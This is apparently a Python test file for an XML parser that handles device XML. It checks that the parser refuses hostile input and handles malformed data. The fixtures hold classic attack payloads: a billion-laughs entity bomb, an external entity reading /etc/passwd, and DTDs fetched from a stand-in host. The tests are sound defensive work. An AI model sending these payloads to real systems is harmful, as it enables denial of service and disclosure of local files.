"""porthole.codecs.xmldoc: device XML is size-capped before parsing and never expands entities.

The hostile documents are the classic ones: the "billion laughs" bomb, an external
entity reading a local file, a DTD fetched from the network, and a document just
over the cap. Each must be refused with its own message, without being expanded.
"""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from porthole.codecs import CodecError
from porthole.codecs.xmldoc import (
    DOCTYPE_REFUSAL,
    ENTITY_REFUSAL,
    MAX_TEXT,
    XmlRefused,
    child_text,
    local_name,
    parse_document,
    text_of,
)

BILLION_LAUGHS = (
    b'<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
    + b"".join(f' <!ENTITY lol{n} "{("&lol" + (str(n - 1) if n > 1 else "") + ";") * 10}">\n'.encode() for n in range(1, 10))
    + b"]>\n<root><device><friendlyName>&lol9;</friendlyName></device></root>"
)
EXTERNAL_ENTITY = b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><root>&x;</root>'
PARAMETER_ENTITY = b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "http://198.18.0.99/evil.dtd"> %p;]><root/>'
EXTERNAL_DTD = b'<?xml version="1.0"?><!DOCTYPE root SYSTEM "http://198.18.0.99/root.dtd"><root/>'
BARE_DOCTYPE = b"<!DOCTYPE root><root/>"


@pytest.mark.parametrize(
    ("document", "message"),
    [
        (BILLION_LAUGHS, ENTITY_REFUSAL),
        (EXTERNAL_ENTITY, ENTITY_REFUSAL),
        (PARAMETER_ENTITY, ENTITY_REFUSAL),
        (EXTERNAL_DTD, DOCTYPE_REFUSAL),
        (BARE_DOCTYPE, DOCTYPE_REFUSAL),
    ],
    ids=["billion-laughs", "external-entity", "parameter-entity", "external-dtd", "bare-doctype"],
)
def test_documents_with_a_dtd_or_entities_are_refused_with_a_clear_reason(document: bytes, message: str) -> None:
    # Given a hostile document (nothing in UPnP or SEMP needs a DTD)
    # When it is parsed
    with pytest.raises(XmlRefused) as refused:
        parse_document(document, limit=64 * 1024)
    # Then it is refused, named for what it carries, and nothing was expanded or fetched
    assert str(refused.value) == message


def test_a_document_over_the_cap_is_refused_before_parsing() -> None:
    # Given a document one byte over the cap, whose content would not even parse
    document = b"<" * 1025
    # When it is parsed with a 1024-byte cap
    with pytest.raises(XmlRefused, match=r"refused: XML document of 1025 bytes exceeds the 1024-byte cap"):
        parse_document(document, limit=1024)
    # Then the size, not the syntax, is the reason: the parser never saw it


def test_a_document_at_the_cap_is_parsed() -> None:
    document = b"<root>" + b"x" * (1024 - 13) + b"</root>"
    assert len(document) == 1024
    assert parse_document(document, limit=1024).tag == "root"


@pytest.mark.parametrize(
    ("document", "fragment"),
    [
        (b"<root><device></root>", "mismatched tag"),
        (b"<root>&undefined;</root>", "undefined entity"),
        (b"", "no element found"),
        (b"<root/>trailing", "junk after document element"),
        (b'<?xml version="1.0" encoding="no-such-codec"?><root/>', "malformed XML"),
    ],
)
def test_broken_xml_raises_codec_error_naming_the_problem(document: bytes, fragment: str) -> None:
    with pytest.raises(CodecError, match=fragment) as raised:
        parse_document(document, limit=1024)
    assert not isinstance(raised.value, XmlRefused)


def test_elements_are_found_by_local_name_whatever_their_namespace_or_prefix() -> None:
    # Given UPnP elements in the default namespace and a prefixed vendor extension
    root = parse_document(
        b'<root xmlns="urn:schemas-upnp-org:device-1-0" xmlns:s="urn:x"><device><s:X_Y><s:basePath> /semp </s:basePath></s:X_Y></device></root>',
        limit=1024,
    )
    # Then both are reachable by local names, text stripped
    assert local_name(root.tag) == "root"
    assert child_text(root, "device", "X_Y", "basePath") == "/semp"
    assert child_text(root, "device", "missing") is None


def test_element_text_is_clipped_so_a_huge_value_never_reaches_a_report() -> None:
    root = parse_document(b"<root>" + "é".encode() * 10_000 + b"</root>", limit=64 * 1024)
    text = text_of(root)
    assert text is not None and len(text) == MAX_TEXT and text.endswith("…")


@settings(max_examples=300, deadline=None)
@given(st.binary(max_size=512))
def test_garbage_only_ever_raises_codec_error(data: bytes) -> None:
    try:
        parse_document(data, limit=256)
    except CodecError:
        pass


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet='<>/!?&;="\' abcdENTITYDOCTYPE[]%\n', max_size=200))
def test_markup_shaped_garbage_only_ever_raises_codec_error(text: str) -> None:
    try:
        parse_document(text.encode(), limit=4096)
    except CodecError:
        pass
